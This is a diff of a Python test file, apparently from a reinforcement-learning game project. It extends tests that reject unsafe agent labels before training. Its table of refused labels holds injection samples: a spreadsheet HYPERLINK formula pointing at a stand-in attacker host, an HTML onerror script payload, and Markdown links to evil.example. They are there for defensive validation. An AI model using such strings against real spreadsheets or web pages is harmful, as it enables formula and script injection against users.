@@ -33,12 +33,16 @@ REFUSED = {
     "'+'": ("a+b", "holds '+'"),
     "'=' first": ('=HYPERLINK("http://evil.example/?x","click")', "starts with '='"),
     "HTML": ("<img src=x onerror=alert(1)>", "holds '<'"),
+    "a Markdown link": ("[notepad](https://evil.example/)", "holds '['"),
+    "a Markdown image": ("!x](http://evil.example/t.png)", "holds ']'"),
+    "a backtick": ("sat`", "holds '`'"),
     "'-' first": ("-2", "starts with '-'"),
     "'@' first": ("@SUM(A1)", "starts with '@'"),
     "a space first": (" random", "starts with ' '"),
 }
 RULE = (
-    "a label is a non-empty name with no control character, '|', '<', '>', '$' or '+', starting with none of"
+    "a label is a non-empty name with no control character, '|', '<', '>', '[', ']', '`', '$' or '+', "
+    "starting with none of"
 )
 
 
@@ -137,3 +141,20 @@ def test_the_evaluation_refuses_an_opponent_label_before_a_game():
     network = ActorCritic(game, NetworkSettings(hidden=[16], card_hidden=8))
     with pytest.raises(ValueError, match=re.escape("opponent's label 'sat|fast' holds '|'")):
         evaluate(network, network.game, [AgentSpec("sat", label="sat|fast")], 2, deterministic=True)
+
+
+def test_sb3_and_rllib_refuse_an_evaluation_opponents_label_before_training():
+    """They checked it at their first evaluation only, after training (a traceback there)."""
+    pytest.importorskip("sb3_contrib")
+    import experiments.train_sb3  # noqa: F401  (registers train_sb3_schema)
+    from experiments.learning.ppo_training import train_config
+
+    config = train_config(config_name="train_sb3", eval_opponents=[AgentSpec("random", label="-never")])
+    with pytest.raises(ConfigError, match=re.escape("eval_opponents.0: label '-never' starts with '-'; ")):
+        config.validate()
+    pytest.importorskip("ray")
+    from experiments.train_rllib import check_command
+
+    config = train_config(config_name="train_rllib", eval_opponents=[AgentSpec("sat", label="sat$")])
+    with pytest.raises(ConfigError, match=re.escape("eval_opponents.0: label 'sat$' holds '$'; ")):
+        check_command(config)
